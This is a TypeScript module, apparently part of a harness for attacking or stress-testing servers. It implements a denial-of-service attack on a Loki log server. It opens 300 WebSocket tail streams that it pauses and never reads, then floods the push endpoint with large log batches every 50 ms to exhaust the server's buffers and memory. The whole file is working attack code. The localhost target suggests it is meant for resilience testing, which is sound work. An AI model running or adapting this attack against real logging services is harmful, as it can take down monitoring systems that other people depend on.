// Tails that nobody reads, and as many as are let in.
import { once } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';
import { WebSocket } from 'ws';
import type { Attack, Target } from './attack.ts';
import { send } from './send.ts';

const tailsMax = 300;
const pushEveryMs = 50;
const lines = 500;

const open = ({ port, fromAddress }: Target, at: number): WebSocket => {
  const query = encodeURIComponent(`{app="tailed"} |~ "(?i)${at}|x+y"`);
  const url = `ws://127.0.0.1:${port}/loki/api/v1/tail?query=${query}`;
  const socket = new WebSocket(url, { localAddress: fromAddress });
  return socket.on('error', () => {}).on('open', () => socket.pause());
};

export const tailAttack: Attack = {
  name: 'tails that nobody reads',
  run: async (target, signal) => {
    const tails = Array.from({ length: tailsMax }, (_, at) => open(target, at));
    for (let round = 0; !signal.aborted; round++) {
      const values = Array.from({ length: lines }, () => [
        `${Date.now()}000000`,
        `${round} ${'x'.repeat(1000)}`,
      ]);
      const body = JSON.stringify({ streams: [{ stream: { app: 'tailed' }, values }] });
      await send(
        target,
        { path: '/loki/api/v1/push', headers: { 'content-type': 'application/json' }, body },
        signal,
      );
      await delay(pushEveryMs);
    }
    for (const tail of tails) tail.terminate();
    await Promise.all(tails.map((tail) => tail.readyState === WebSocket.CLOSED || once(tail, 'close')));
  },
};
